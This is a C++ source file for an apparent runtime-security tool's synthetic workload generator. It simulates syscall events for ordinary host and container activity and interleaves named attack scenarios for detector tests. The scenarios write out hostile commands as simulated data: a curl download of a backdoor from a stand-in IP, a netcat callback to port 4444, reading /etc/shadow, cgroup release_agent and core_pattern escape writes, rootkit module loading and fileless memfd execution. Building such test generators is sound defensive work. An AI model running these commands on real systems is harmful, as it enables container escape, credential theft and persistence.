// The synthetic workload generator: a deterministic mix of everyday activity (shells, package
// managers, web servers, compilers) with attack scenarios interleaved, for tests and benchmarks.
#include <array>
#include <optional>
#include <string>
#include <vector>

#include "base/error.h"
#include "capture/capture_file.h"
#include "capture/synthetic.h"

namespace bulkhead::capture {
namespace {

constexpr uint32_t kORdonly = 0, kOWronly = 01, kORdwr = 02, kOCreat = 0100, kOTrunc = 01000,
                   kOAppend = 02000, kONonblock = 04000, kODirectory = 0200000,
                   kOCloexec = 02000000;
constexpr uint32_t kSockStream = 1, kSockDgram = 2, kSockCloexec = 02000000;
constexpr uint64_t kCloneNewns = 0x20000, kCloneNewuser = 0x10000000, kCloneNewpid = 0x20000000,
                   kCloneNewnet = 0x40000000;
constexpr uint64_t kPtraceAttach = 16, kPtracePeekdata = 2, kPtraceDetach = 17;
constexpr uint32_t kTtyPts0 = 34816;

// splitmix64: small, fast, and the same everywhere (std distributions are not).
class Random {
 public:
  explicit Random(uint64_t seed) : state_(seed) {}
  uint64_t next() {
    uint64_t z = (state_ += 0x9e3779b97f4a7c15ull);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
  }
  uint64_t below(uint64_t n) { return n == 0 ? 0 : next() % n; }
  bool chance(unsigned percent) { return below(100) < percent; }
  template <typename T>
  const T& pick(const std::vector<T>& items) {
    return items[below(items.size())];
  }

 private:
  uint64_t state_;
};

std::string hex_id(Random& random, std::size_t length) {
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out;
  for (std::size_t i = 0; i < length; ++i) out.push_back(kHex[random.below(16)]);
  return out;
}

const std::vector<std::string> kHeaders = {
    "stdio.h",  "stdlib.h",    "string.h",        "unistd.h",     "errno.h",
    "fcntl.h",  "sys/types.h", "sys/stat.h",      "bits/types.h", "features.h",
    "stdint.h", "limits.h",    "bits/wordsize.h", "sys/cdefs.h",  "bits/stdio_lim.h",
    "time.h",   "signal.h",    "pthread.h",       "sched.h",      "bits/endian.h",
    "assert.h", "ctype.h",     "math.h",          "sys/socket.h", "netinet/in.h",
};
const std::vector<std::string> kWebFiles = {
    "/usr/share/nginx/html/index.html", "/usr/share/nginx/html/favicon.ico",
    "/usr/share/nginx/html/app.js",     "/usr/share/nginx/html/style.css",
    "/var/www/html/index.html",         "/usr/share/nginx/html/images/logo.png",
};
const std::vector<std::string> kPackages = {"curl", "jq", "htop", "vim-tiny", "less", "tree"};

struct Container {
  std::string id;
  int64_t init = 0;   // the container's first process
  int64_t shell = 0;  // an interactive shell inside it (for shell workloads and attacks)
  int64_t web = 0;    // nginx master, or 0
  int64_t listen_fd = -1;
  int64_t log_fd = -1;
};

class Generator {
 public:
  Generator(const GeneratorOptions& options, SyntheticHost& host)
      : options_(options), host_(host), random_(options.seed) {}

  void setup() {
    systemd_ =
        host_.add_process(0, "/usr/lib/systemd/systemd", {"--system", "--deserialize", "31"});
    journald_ = host_.add_process(systemd_, "/usr/lib/systemd/systemd-journald", {});
    int64_t sshd = host_.add_process(systemd_, "/usr/sbin/sshd", {"-D"});
    for (int i = 0; i < 2; ++i) {
      int64_t session = host_.add_process(sshd, "/usr/sbin/sshd", {"-D", "-R"});
      host_shells_.push_back(
          host_.add_process(session, "/usr/bin/bash", {}, "", 1000, kTtyPts0 + i));
    }
    root_shell_ = host_.add_process(host_shells_[0], "/usr/bin/bash", {}, "", 0, kTtyPts0);
    int64_t containerd = host_.add_process(systemd_, "/usr/bin/containerd", {});
    static const std::array<const char*, 3> kImages = {"nginx", "busybox", "python"};
    for (uint32_t i = 0; i < options_.containers; ++i) {
      Container c;
      std::string full_id = hex_id(random_, 64);
      c.id = full_id.substr(0, 12);
      std::string image = kImages[i % kImages.size()];
      ContainerInfo info;
      info.id = c.id;
      info.name = image + "-" + std::to_string(i);
      info.image_repository = "docker.io/library/" + image;
      info.image_tag = image == "python" ? "3.12-slim" : "latest";
      info.image = info.image_repository + ":" + info.image_tag;
      info.runtime = "docker";
      host_.add_container(info);
      int64_t shim = host_.add_process(containerd, "/usr/bin/containerd-shim-runc-v2",
                                       {"-namespace", "moby", "-id", full_id});
      if (image == "nginx") {
        c.init = host_.add_process(shim, "/usr/sbin/nginx", {"-g", "daemon off;"}, c.id);
        c.web = c.init;
      } else if (image == "busybox") {
        c.init = host_.add_process(shim, "/bin/busybox", {"httpd", "-f", "-p", "80"}, c.id);
        c.web = c.init;
      } else {
        c.init = host_.add_process(shim, "/usr/local/bin/python3", {"app.py"}, c.id, 1000);
      }
      c.shell = host_.add_process(c.init, "/bin/sh", {}, c.id);
      containers_.push_back(c);
    }
    Container host_web;
    host_web.web =
        host_.add_process(systemd_, "/usr/sbin/nginx", {"-g", "daemon on; master_process on;"});
    host_web_ = host_web.web;
    containers_.push_back(host_web);  // the host's nginx, served by the same loop
  }

  // The listening sockets and logs, as events (so the thread table learns them from the stream).
  void start_services() {
    journal_fd_ = host_.open(journald_, "/var/log/journal/system.journal",
                             kORdwr | kOCreat | kOCloexec, 0640);
    for (Container& c : containers_) {
      if (c.web == 0) continue;
      c.listen_fd = host_.socket(c.web, 10, kSockStream | kSockCloexec | kONonblock);
      host_.bind(c.web, c.listen_fd, "::", 80);
      host_.listen(c.web, c.listen_fd, 511);
      c.log_fd = host_.open(c.web, "/var/log/nginx/access.log",
                            kOWronly | kOAppend | kOCreat | kOCloexec, 0644);
      host_.spawn_thread(c.web);
    }
  }

  void run(const uint64_t& delivered) {
    const WorkloadMix& mix = options_.mix;
    const std::array<double, 5> weights = {mix.shell, mix.package_manager, mix.web_server,
                                           mix.compiler, mix.attack};
    double total = 0;
    for (double w : weights) total += w > 0 ? w : 0;
    if (total <= 0) throw Error("generator: every workload weight is zero");
    while (delivered < options_.events) {
      double r = static_cast<double>(random_.below(1'000'000)) / 1'000'000.0 * total;
      std::size_t kind = 0;
      for (; kind + 1 < weights.size(); ++kind) {
        double w = weights[kind] > 0 ? weights[kind] : 0;
        if (r < w) break;
        r -= w;
      }
      switch (kind) {
        case 0:
          shell_session();
          break;
        case 1:
          package_install();
          break;
        case 2:
          web_requests();
          break;
        case 3:
          compile();
          break;
        default:
          attack();
          break;
      }
      if (random_.chance(3)) system_noise();
    }
  }

 private:
  // A program starting: the dynamic loader's usual opens.
  void load_libraries(int64_t pid, int libraries) {
    int64_t cache = host_.open(pid, "/etc/ld.so.cache", kORdonly | kOCloexec);
    host_.read(pid, cache, 4096);
    host_.close(pid, cache);
    static const std::vector<std::string> kLibs = {
        "/lib/x86_64-linux-gnu/libc.so.6",       "/lib/x86_64-linux-gnu/libselinux.so.1",
        "/lib/x86_64-linux-gnu/libpcre2-8.so.0", "/lib/x86_64-linux-gnu/libtinfo.so.6",
        "/lib/x86_64-linux-gnu/libz.so.1",       "/lib/x86_64-linux-gnu/libm.so.6"};
    for (int i = 0; i < libraries; ++i) {
      int64_t fd =
          host_.open(pid, kLibs[static_cast<std::size_t>(i) % kLibs.size()], kORdonly | kOCloexec);
      host_.read(pid, fd, 832);
      host_.close(pid, fd);
    }
  }

  // `redirect`: (fd, target) to dup2 in the child before it execs, as a shell sets up a pipe.
  int64_t run_command(int64_t shell, const std::string& exe, const std::vector<std::string>& args,
                      std::optional<std::pair<int64_t, int64_t>> redirect = std::nullopt) {
    static const std::array<EventType, 4> kVia = {EventType::clone, EventType::fork,
                                                  EventType::vfork, EventType::clone3};
    EventType via = kVia[random_.below(kVia.size())];
    int64_t pid;
    if (redirect) {
      pid = host_.fork(shell, via == EventType::vfork ? EventType::clone : via);
      host_.dup(pid, redirect->first, EventType::dup2, redirect->second);
      host_.exec(pid, exe, args);
    } else {
      pid = host_.spawn(shell, exe, args, via);
    }
    load_libraries(pid, 1 + static_cast<int>(random_.below(3)));
    return pid;
  }

  void shell_session() {
    bool in_container = random_.chance(20) && !containers_.empty();
    int64_t shell = in_container ? containers_[random_.below(containers_.size())].shell
                                 : host_shells_[random_.below(host_shells_.size())];
    if (shell == 0) shell = host_shells_[0];  // the host's nginx entry has no shell
    int commands = 1 + static_cast<int>(random_.below(4));
    for (int i = 0; i < commands; ++i) {
      switch (random_.below(8)) {
        case 0: {  // ls -la /etc
          int64_t pid = run_command(shell, "/usr/bin/ls", {"-la", "/etc"});
          int64_t dir = host_.open(pid, "/etc", kORdonly | kODirectory | kOCloexec | kONonblock);
          host_.read(pid, dir, 32768);
          host_.close(pid, dir);
          host_.write(pid, 1, 2048);
          host_.exit(pid);
          break;
        }
        case 1: {  // cat file
          int64_t pid = run_command(shell, "/usr/bin/cat", {"/etc/os-release"});
          int64_t fd = host_.open(pid, "/etc/os-release", kORdonly);
          host_.read(pid, fd, 386);
          host_.write(pid, 1, 386);
          host_.read(pid, fd, 0);
          host_.close(pid, fd);
          host_.exit(pid);
          break;
        }
        case 2: {  // ps aux | grep nginx: a pipeline
          auto [read_end, write_end] = host_.pipe(shell, EventType::pipe2, kOCloexec);
          int64_t ps = run_command(shell, "/usr/bin/ps", {"aux"}, std::pair{write_end, int64_t{1}});
          for (int64_t proc = 1; proc < 12; ++proc) {
            int64_t fd = host_.open(ps, "/proc/" + std::to_string(proc * 97) + "/stat", kORdonly);
            host_.read(ps, fd, 320);
            host_.close(ps, fd);
          }
          host_.write(ps, 1, 4096);
          int64_t grep =
              run_command(shell, "/usr/bin/grep", {"nginx"}, std::pair{read_end, int64_t{0}});
          host_.read(grep, 0, 4096);
          host_.write(grep, 1, 180);
          host_.exit(ps);
          host_.exit(grep);
          host_.close(shell, read_end);
          host_.close(shell, write_end);
          break;
        }
        case 3: {  // cd and an editor writing a file
          host_.chdir(shell, random_.chance(50) ? "/tmp" : "..");
          int64_t pid = run_command(shell, "/usr/bin/vi", {"notes.txt"});
          int64_t fd = host_.open(pid, "notes.txt", kOWronly | kOCreat | kOTrunc, 0644);
          host_.write(pid, fd, 120);
          host_.close(pid, fd);
          host_.exit(pid);
          break;
        }
        case 4: {  // curl to an allowed service
          int64_t pid = run_command(shell, "/usr/bin/curl", {"-s", "http://10.0.0.10:8080/health"});
          int64_t fd = host_.socket(pid, 2, kSockStream | kSockCloexec);
          host_.connect(pid, fd, "10.0.0.10", 8080);
          host_.send(pid, fd, 90, EventType::sendto);
          host_.receive(pid, fd, 512, EventType::recvfrom);
          host_.close(pid, fd);
          host_.write(pid, 1, 20);
          host_.exit(pid);
          break;
        }
        case 5: {  // DNS lookup
          int64_t pid = run_command(shell, "/usr/bin/getent", {"hosts", "example.com"});
          int64_t conf = host_.open(pid, "/etc/resolv.conf", kORdonly | kOCloexec);
          host_.read(pid, conf, 80);
          host_.close(pid, conf);
          int64_t fd = host_.socket(pid, 2, kSockDgram | kSockCloexec | kONonblock);
          host_.connect(pid, fd, "10.0.0.2", 53);
          host_.send(pid, fd, 40, EventType::sendmsg);
          host_.receive(pid, fd, 120, EventType::recvmsg);
          host_.close(pid, fd);
          host_.exit(pid);
          break;
        }
        case 6: {  // a script: sh -c with redirections
          int64_t pid = run_command(shell, "/bin/sh", {"-c", "date > /tmp/stamp"});
          int64_t fd = host_.open(pid, "/tmp/stamp", kOWronly | kOCreat | kOTrunc, 0644);
          int64_t saved = host_.fcntl_dupfd(pid, 1, true);
          host_.dup(pid, fd, EventType::dup2, 1);
          host_.close(pid, fd);
          host_.exec(pid, "/usr/bin/date", {});
          host_.write(pid, 1, 29);
          (void)saved;
          host_.exit(pid);
          break;
        }
        default: {  // a failed command
          int64_t pid = host_.fork(shell);
          host_.exec(pid, "/usr/local/bin/kubectl", {"get", "pods"}, -2);
          host_.exec(pid, "/usr/bin/kubectl", {"get", "pods"}, -2);
          host_.write(pid, 2, 40);
          host_.exit(pid, 127 << 8);
          break;
        }
      }
    }
  }

  void package_install() {
    const std::string& name = random_.pick(kPackages);
    int64_t apt = run_command(root_shell_, "/usr/bin/apt-get", {"install", "-y", name});
    int64_t lists = host_.open(
        apt, "/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages",
        kORdonly);
    host_.read(apt, lists, 65536);
    host_.close(apt, lists);
    // The download method drops privileges to _apt.
    int64_t http = host_.spawn(apt, "/usr/lib/apt/methods/http", {});
    host_.setgid(http, 65534, EventType::setresgid);
    host_.setuid(http, 42, EventType::setresuid);
    int64_t sock = host_.socket(http, 2, kSockStream | kSockCloexec);
    host_.connect(http, sock, "151.101.2.132", 80);
    for (int i = 0; i < 4; ++i) host_.receive(http, sock, 16384, EventType::recvfrom);
    int64_t deb = host_.open(http, "/var/cache/apt/archives/partial/" + name + ".deb",
                             kOWronly | kOCreat, 0644);
    host_.write(http, deb, 65536);
    host_.close(http, deb);
    host_.close(http, sock);
    host_.exit(http);
    host_.rename(apt, "/var/cache/apt/archives/partial/" + name + ".deb",
                 "/var/cache/apt/archives/" + name + ".deb", EventType::rename);
    int64_t dpkg =
        host_.spawn(apt, "/usr/bin/dpkg", {"--status-fd", "23", "--unpack", name + ".deb"});
    int64_t status = host_.open(dpkg, "/var/lib/dpkg/status", kORdonly);
    host_.read(dpkg, status, 65536);
    host_.close(dpkg, status);
    host_.mkdir(dpkg, "/usr/share/doc/" + name, 0755);
    int files = 2 + static_cast<int>(random_.below(4));
    for (int i = 0; i < files; ++i) {
      std::string target =
          i == 0 ? "/usr/bin/" + name : "/usr/share/doc/" + name + "/file" + std::to_string(i);
      int64_t fd = host_.open(dpkg, target + ".dpkg-new", kOWronly | kOCreat | kOTrunc, 0644);
      host_.write(dpkg, fd, 4096 + random_.below(60000));
      host_.close(dpkg, fd);
      if (i == 0) host_.chmod(dpkg, target + ".dpkg-new", 0755, EventType::fchmodat, -100);
      host_.rename(dpkg, target + ".dpkg-new", target, EventType::renameat2, 0);
    }
    host_.link(dpkg, "/usr/bin/" + name, "/usr/bin/" + name + "-alias", true, true);
    host_.link(dpkg, "/usr/share/doc/" + name + "/file1", "/usr/share/doc/" + name + "/copyright",
               false, true);
    int64_t list = host_.open(dpkg, "/var/lib/dpkg/info/" + name + ".list",
                              kOWronly | kOCreat | kOTrunc, 0644);
    host_.write(dpkg, list, 300);
    host_.close(dpkg, list);
    int64_t update =
        host_.open(dpkg, "/var/lib/dpkg/updates/0001", kOWronly | kOCreat | kOTrunc, 0644);
    host_.write(dpkg, update, 900);
    host_.close(dpkg, update);
    host_.unlink(dpkg, "/var/lib/dpkg/updates/0001", EventType::unlinkat, 0);
    host_.unlink(dpkg, "/var/cache/apt/archives/" + name + ".deb", EventType::unlink);
    host_.exit(dpkg);
    host_.exit(apt);
  }

  void web_requests() {
    Container& c = containers_[random_.below(containers_.size())];
    if (c.web == 0) {
      // The python app container: an outbound call to its database.
      int64_t fd = host_.socket(c.init, 2, kSockStream | kSockCloexec);
      host_.connect(c.init, fd, "10.0.0.20", 5432);
      host_.send(c.init, fd, 200, EventType::sendto);
      host_.receive(c.init, fd, 1400, EventType::recvfrom);
      host_.close(c.init, fd);
      return;
    }
    int requests = 1 + static_cast<int>(random_.below(6));
    for (int i = 0; i < requests; ++i) {
      std::string client = random_.chance(70)
                               ? "::ffff:10.0." + std::to_string(random_.below(4)) + "." +
                                     std::to_string(1 + random_.below(250))
                               : "2001:db8::" + std::to_string(1 + random_.below(9000));
      int64_t conn = host_.accept(c.web, c.listen_fd, client,
                                  static_cast<uint16_t>(30000 + random_.below(30000)),
                                  random_.chance(80) ? EventType::accept4 : EventType::accept);
      host_.receive(c.web, conn, 420 + random_.below(400),
                    random_.chance(50) ? EventType::recvfrom : EventType::recvmsg);
      host_.read(c.web, conn, 0);
      int64_t file = host_.open(c.web, random_.pick(kWebFiles), kORdonly | kONonblock | kOCloexec);
      host_.read(c.web, file, 612 + random_.below(30000));
      host_.close(c.web, file);
      host_.write(c.web, conn, 240);
      host_.send(c.web, conn, 612 + random_.below(30000), EventType::sendto);
      host_.write(c.web, c.log_fd, 180);
      host_.close(c.web, conn);
    }
  }

  void compile() {
    int64_t shell = host_shells_[random_.below(host_shells_.size())];
    int64_t make = run_command(shell, "/usr/bin/make", {"-j2"});
    int64_t makefile = host_.open(make, "Makefile", kORdonly);
    host_.read(make, makefile, 2200);
    host_.close(make, makefile);
    int units = 1 + static_cast<int>(random_.below(3));
    for (int u = 0; u < units; ++u) {
      std::string unit = "src/module" + std::to_string(random_.below(40));
      int64_t gcc =
          host_.spawn(make, "/usr/bin/gcc", {"-O2", "-c", unit + ".c", "-o", unit + ".o"});
      load_libraries(gcc, 1);
      int64_t cc1 =
          host_.spawn(gcc, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", {"-quiet", unit + ".c", "-O2"});
      load_libraries(cc1, 3);
      int64_t source = host_.open(cc1, unit + ".c", kORdonly | kONonblock);
      host_.read(cc1, source, 8192);
      host_.close(cc1, source);
      int headers = 8 + static_cast<int>(random_.below(kHeaders.size() - 8));
      for (int h = 0; h < headers; ++h) {
        int64_t fd = host_.open(cc1, "/usr/include/" + kHeaders[static_cast<std::size_t>(h)],
                                kORdonly | kONonblock);
        host_.read(cc1, fd, 2000 + random_.below(30000));
        host_.close(cc1, fd);
      }
      std::string assembly = "/tmp/cc" + std::to_string(random_.below(999999)) + ".s";
      int64_t out = host_.open(cc1, assembly, kORdwr | kOCreat | kOTrunc, 0600);
      host_.write(cc1, out, 30000);
      host_.close(cc1, out);
      host_.exit(cc1);
      int64_t as = host_.spawn(gcc, "/usr/bin/as", {"--64", "-o", unit + ".o", assembly});
      load_libraries(as, 2);
      int64_t in = host_.open(as, assembly, kORdonly);
      host_.read(as, in, 30000);
      host_.close(as, in);
      int64_t object = host_.creat(as, unit + ".o", 0644);
      host_.write(as, object, 12000);
      host_.close(as, object);
      host_.exit(as);
      host_.unlink(gcc, assembly, EventType::unlink);
      host_.exit(gcc);
    }
    int64_t ld = host_.spawn(make, "/usr/bin/ld", {"-o", "app", "src/module1.o"});
    load_libraries(ld, 2);
    int64_t libc = host_.open(ld, "/usr/lib/x86_64-linux-gnu/libc.so", kORdonly);
    host_.read(ld, libc, 300);
    host_.close(ld, libc);
    int64_t binary = host_.open(ld, "app", kORdwr | kOCreat | kOTrunc, 0666);
    host_.write(ld, binary, 70000);
    host_.chmod(ld, "", 0755, EventType::fchmod, binary);
    host_.close(ld, binary);
    host_.exit(ld);
    host_.exit(make);
  }

  void system_noise() {
    switch (random_.below(6)) {
      case 0:  // journald receiving and storing log records
        host_.write(journald_, journal_fd_, 512);
        break;
      case 1: {  // systemd loading a cgroup BPF program
        int64_t map = host_.bpf(systemd_, 0);
        int64_t prog = host_.bpf(systemd_, 5);
        host_.close(systemd_, map);
        host_.close(systemd_, prog);
        break;
      }
      case 2: {  // a worker naming itself, a thread signalled
        int64_t worker = host_.fork(systemd_);
        host_.prctl(worker, 15, "(sd-worker)");
        host_.capset(worker, 0, 0);
        host_.kill(systemd_, worker, 15, true);
        host_.exit(worker, 15);
        break;
      }
      case 3: {  // old-style syscalls some programs still use
        int64_t fd = host_.open(systemd_, "/run/systemd/units/invocation:ssh.service",
                                kORdonly | kOCloexec, 0, EventType::open);
        host_.close(systemd_, fd);
        fd = host_.open(systemd_, "/sys/fs/cgroup/system.slice", kORdonly | kODirectory | kOCloexec,
                        0, EventType::openat2);
        host_.fchdir(systemd_, fd);
        host_.chdir(systemd_, "/");
        host_.close(systemd_, fd);
        auto [a, b] = host_.pipe(systemd_, EventType::pipe, 0);
        host_.close(systemd_, a);
        host_.close(systemd_, b);
        auto [c, d] = host_.socketpair(systemd_);
        host_.send(systemd_, c, 16, EventType::sendmsg);
        host_.receive(systemd_, d, 16, EventType::recvmsg);
        host_.close(systemd_, c);
        host_.close(systemd_, d);
        break;
      }
      case 4: {  // a JVM-ish process using userfaultfd, uid changes, a mount cleanup
        int64_t pid = host_.spawn(systemd_, "/usr/bin/java", {"-jar", "service.jar"});
        int64_t fd = host_.userfaultfd(pid);
        host_.close(pid, fd);
        int64_t copy = host_.dup(pid, 1, EventType::dup);
        host_.dup(pid, copy, EventType::dup3, 9, kOCloexec);
        host_.close(pid, copy);
        host_.setgid(pid, 998, EventType::setregid);
        host_.setuid(pid, 998, EventType::setreuid);
        host_.setgid(pid, 998, EventType::setgid);
        host_.setuid(pid, 998, EventType::setuid);
        host_.kill(pid, pid, 0);
        host_.exit(pid);
        break;
      }
      default: {
        host_.mkdir(systemd_, "/run/user/1000", 0700, false);
        host_.link(systemd_, "/run/user/1000/bus", "/run/user/1000/bus.lnk", true, false);
        host_.link(systemd_, "/run/user/1000/bus", "/run/user/1000/bus.hard", false, false);
        host_.rename(systemd_, "/run/user/1000/bus.lnk", "/run/user/1000/bus.old",
                     EventType::renameat);
        host_.umount(systemd_, "/run/user/1000", 2);
        break;
      }
    }
  }

  void attack() {
    auto names = attack_scenario_names();
    std::string_view name = names[next_attack_++ % names.size()];
    int64_t container_shell = 0;
    for (const Container& c : containers_)
      if (c.shell != 0) {
        container_shell = c.shell;
        break;
      }
    run_attack_scenario(host_, name, host_shells_[0],
                        container_shell != 0 ? container_shell : host_shells_[0]);
  }

  const GeneratorOptions& options_;
  SyntheticHost& host_;
  Random random_;
  int64_t systemd_ = 0, journald_ = 0, root_shell_ = 0, host_web_ = 0;
  std::vector<int64_t> host_shells_;
  std::vector<Container> containers_;
  std::size_t next_attack_ = 0;
  int64_t journal_fd_ = -1;
};

}  // namespace

std::vector<std::string_view> attack_scenario_names() {
  return {"terminal_shell_in_container",
          "write_below_binary_dir",
          "read_sensitive_file",
          "outbound_connection",
          "mount_in_container",
          "unshare_in_container",
          "setns_in_container",
          "ptrace_attach",
          "kernel_module_load",
          "docker_socket_from_container",
          "release_agent_write",
          "core_pattern_write",
          "setuid_bit_chmod",
          "memfd_exec",
          "proc_1_ns_access"};
}

void run_attack_scenario(SyntheticHost& host, std::string_view name, int64_t shell,
                         int64_t container_shell) {
  if (name == "terminal_shell_in_container") {
    // `docker exec -it c sh`: a shell with a terminal, child of the container's process.
    int64_t sh = host.fork(container_shell);
    host.set_tty(sh, kTtyPts0 + 7);
    host.exec(sh, "/bin/sh", {});
    host.write(sh, 1, 2);
    host.exit(sh);
  } else if (name == "write_below_binary_dir") {
    int64_t pid =
        host.spawn(shell, "/usr/bin/curl", {"-o", "/usr/bin/backdoor", "http://203.0.113.9/x"});
    int64_t fd = host.open(pid, "/usr/bin/backdoor", kOWronly | kOCreat | kOTrunc, 0755);
    host.write(pid, fd, 40000);
    host.close(pid, fd);
    host.exit(pid);
  } else if (name == "read_sensitive_file") {
    int64_t pid = host.spawn(container_shell, "/bin/cat", {"/etc/shadow"});
    int64_t fd = host.open(pid, "/etc/shadow", kORdonly);
    host.read(pid, fd, 1024);
    host.close(pid, fd);
    host.exit(pid);
  } else if (name == "outbound_connection") {
    int64_t pid = host.spawn(container_shell, "/usr/bin/nc", {"203.0.113.50", "4444"});
    int64_t fd = host.socket(pid, 2, kSockStream);
    host.connect(pid, fd, "203.0.113.50", 4444);
    host.send(pid, fd, 64, EventType::sendto);
    host.close(pid, fd);
    host.exit(pid);
  } else if (name == "mount_in_container") {
    int64_t pid = host.spawn(container_shell, "/bin/mount", {"/dev/sda1", "/mnt"});
    host.mount(pid, "/dev/sda1", "/mnt", "ext4", 0);
    host.exit(pid);
  } else if (name == "unshare_in_container") {
    int64_t pid = host.spawn(container_shell, "/usr/bin/unshare", {"-Urm", "sh"});
    host.unshare(pid, kCloneNewuser | kCloneNewns | kCloneNewpid | kCloneNewnet);
    host.exit(pid);
  } else if (name == "setns_in_container") {
    int64_t pid = host.spawn(container_shell, "/usr/bin/nsenter", {"-t", "1", "-m", "sh"});
    int64_t fd = host.open(pid, "/proc/1/ns/mnt", kORdonly | kOCloexec);
    host.setns(pid, fd, kCloneNewns);
    host.close(pid, fd);
    host.exit(pid);
  } else if (name == "ptrace_attach") {
    int64_t pid = host.spawn(shell, "/usr/bin/gdb", {"-p", "1"});
    host.ptrace(pid, kPtraceAttach, 1);
    host.ptrace(pid, kPtracePeekdata, 1);
    host.ptrace(pid, kPtraceDetach, 1);
    host.exit(pid);
  } else if (name == "kernel_module_load") {
    int64_t pid = host.spawn(shell, "/usr/sbin/insmod", {"rootkit.ko"});
    int64_t fd = host.open(pid, "/tmp/rootkit.ko", kORdonly | kOCloexec);
    host.finit_module(pid, fd, "");
    host.init_module(pid, 90000, "hide=1");
    host.close(pid, fd);
    host.exit(pid);
  } else if (name == "docker_socket_from_container") {
    int64_t pid =
        host.spawn(container_shell, "/usr/bin/curl",
                   {"--unix-socket", "/var/run/docker.sock", "http://localhost/containers/json"});
    int64_t fd = host.socket(pid, 1, kSockStream | kSockCloexec);
    host.connect(pid, fd, "/var/run/docker.sock", 0);
    host.send(pid, fd, 90, EventType::sendto);
    host.close(pid, fd);
    int64_t file = host.open(pid, "/var/run/docker.sock", kORdwr);
    host.close(pid, file);
    host.exit(pid);
  } else if (name == "release_agent_write") {
    int64_t pid = host.spawn(container_shell, "/bin/sh", {"-c", "echo /x > release_agent"});
    int64_t fd = host.open(pid, "/sys/fs/cgroup/memory/release_agent", kOWronly | kOTrunc);
    host.write(pid, fd, 3);
    host.close(pid, fd);
    host.exit(pid);
  } else if (name == "core_pattern_write") {
    int64_t pid = host.spawn(container_shell, "/bin/sh",
                             {"-c", "echo '|/x' > /proc/sys/kernel/core_pattern"});
    int64_t fd = host.open(pid, "/proc/sys/kernel/core_pattern", kOWronly | kOTrunc);
    host.write(pid, fd, 4);
    host.close(pid, fd);
    host.exit(pid);
  } else if (name == "setuid_bit_chmod") {
    int64_t pid = host.spawn(shell, "/usr/bin/chmod", {"u+s", "/tmp/rootshell"});
    host.chmod(pid, "/tmp/rootshell", 04755, EventType::fchmodat, -100);
    host.chmod(pid, "/tmp/rootshell2", 06755, EventType::chmod);
    host.exit(pid);
  } else if (name == "memfd_exec") {
    int64_t pid = host.spawn(container_shell, "/usr/local/bin/python3", {"-c", "fileless"});
    int64_t fd = host.memfd_create(pid, "x", 0);
    host.write(pid, fd, 900000);
    host.execveat(pid, fd, "", {"[kworker/0:1]"});
    host.exit(pid);
  } else if (name == "proc_1_ns_access") {
    // From a container that shares the host's pid namespace: host PID 1's namespaces.
    int64_t pid = host.spawn(container_shell, "/usr/bin/nsenter", {"--target", "1", "--all"});
    for (const char* ns : {"/proc/1/ns/mnt", "/proc/1/ns/pid", "/proc/1/ns/net"}) {
      int64_t fd = host.open(pid, ns, kORdonly | kOCloexec);
      host.close(pid, fd);
    }
    host.exit(pid);
  } else {
    throw Error("unknown attack scenario '" + std::string(name) + "'");
  }
}

void generate_events(const GeneratorOptions& options, ThreadTable& initial, const EventSink& sink) {
  uint64_t delivered = 0;
  SyntheticHost host(
      [&](const Event& event) {
        if (delivered >= options.events) return;  // the last episode may run past the target
        ++delivered;
        sink(event);
      },
      options.start_ns);
  Generator generator(options, host);
  generator.setup();
  host.snapshot(initial);
  generator.start_services();
  generator.run(delivered);
}

void generate_capture(const std::string& path, const GeneratorOptions& options) {
  CaptureHeader header;
  header.hostname = "synthetic";
  header.boot_time_ns = options.start_ns - 3'600'000'000'000;
  header.creation_time_ns = options.start_ns;
  header.flags = kCaptureSynthetic;
  CaptureWriter writer(path, header);
  ThreadTable initial;
  bool snapshot_written = false;
  generate_events(options, initial, [&](const Event& event) {
    if (!snapshot_written) {
      writer.write_snapshot(initial);
      snapshot_written = true;
    }
    writer.write(event);
  });
  if (!snapshot_written) writer.write_snapshot(initial);
  writer.close();
}

}  // namespace bulkhead::capture
